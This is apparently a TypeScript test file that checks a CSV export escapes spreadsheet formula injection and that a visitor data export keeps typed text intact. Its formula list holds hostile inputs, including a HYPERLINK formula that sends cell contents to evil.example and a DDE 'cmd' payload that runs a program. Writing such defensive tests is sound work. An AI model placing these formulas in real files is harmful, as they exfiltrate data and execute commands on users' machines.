import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { runProgram } from '../../src/cli/program.ts';
import { toCsv } from '../../src/desk/models/csv.ts';
import type { ExportedVisitor } from '../../src/server/lifecycle/person.ts';
import { createRecordedTerminal } from '../cli/recorded-terminal.ts';
import { startHouse, tempFolder } from '../server/house.ts';
import { arrive } from '../server/visitor.ts';
import { payloads } from './payloads.ts';

/** What spreadsheets would reckon with, run or fetch. */
const formulas = [
  '=1+1', '=HYPERLINK("https://evil.example/?"&A1,"Open")', "=cmd|' /C calc'!A0", '+1', '-1+1', '@SUM(A1)', '＝1+1', '＋1', '－1', '＠SUM(A1)',
  '\t=1+1', '\r=1+1', '\n=1+1', '\0=1+1', '  =1+1', '\u00a0=1+1', '";=1+1', 'shoes;=1+1', 'shoes,=1+1', 'shoes\r\n=1+1', "'=1+1",
];

describe('what is taken out', () => {
  test('is words in a spreadsheet, whatever was searched for and whatever parts its cells', () => {
    const words = [...formulas, ...payloads];
    const file = toCsv(words.map((typed, index) => [typed, index]));
    for (const delimiter of [',', ';', '\t']) {
      const cells = parse(file, { bom: true, delimiter, relax_column_count: true, relax_quotes: true }).flat();
      expect(cells.filter((cell) => /^[\s\0]*[=+\-@＝＋－＠]/.test(cell))).toEqual([]);
    }
    const rows = parse(file, { bom: true });
    for (const [index, typed] of words.entries()) expect([typed, `'${typed}`]).toContain(rows[index]?.[0]);
  });

  test('is given to whom it is about in the words they wrote, and is JSON through and through', async () => {
    const plenty = { burst: 1e6, perSecond: 1e6 };
    const dataFolder = tempFolder();
    const server = await startHouse({ dataFolder, rates: { request: plenty, chat: plenty, network: plenty, contact: plenty } });
    const visitor = await arrive(server);
    const context = { page: { url: 'https://shop.example/', title: payloads[0] } };
    const letter = { name: payloads[0], email: 'ada@example.org', subject: payloads[1], message: payloads.slice(0, 40).join('\n') };
    expect((await visitor.command('contact.send', letter, { context })).status).toBe(200);
    for (const text of payloads) await visitor.command('chat.send', { text });

    const terminal = createRecordedTerminal();
    expect(await runProgram(['export', '--data', dataFolder, '--email', letter.email], terminal)).toBe(0);
    const { visitors } = JSON.parse(terminal.outLines.join('\n')) as { visitors: ExportedVisitor[] };
    const conversations = visitors.flatMap((each) => each.conversations);
    const said = new Set(conversations.flatMap(({ events }) => events.flatMap((event) => (event.type === 'message' ? [event.text] : []))));
    // But for what has no place in words.
    expect(payloads.filter((typed) => !said.has(typed.replaceAll('\0', '').trim()))).toEqual([]);
    expect(conversations.find(({ channel }) => channel === 'contact')).toMatchObject({ subject: payloads[1], context, person: { name: payloads[0] } });
  });
});
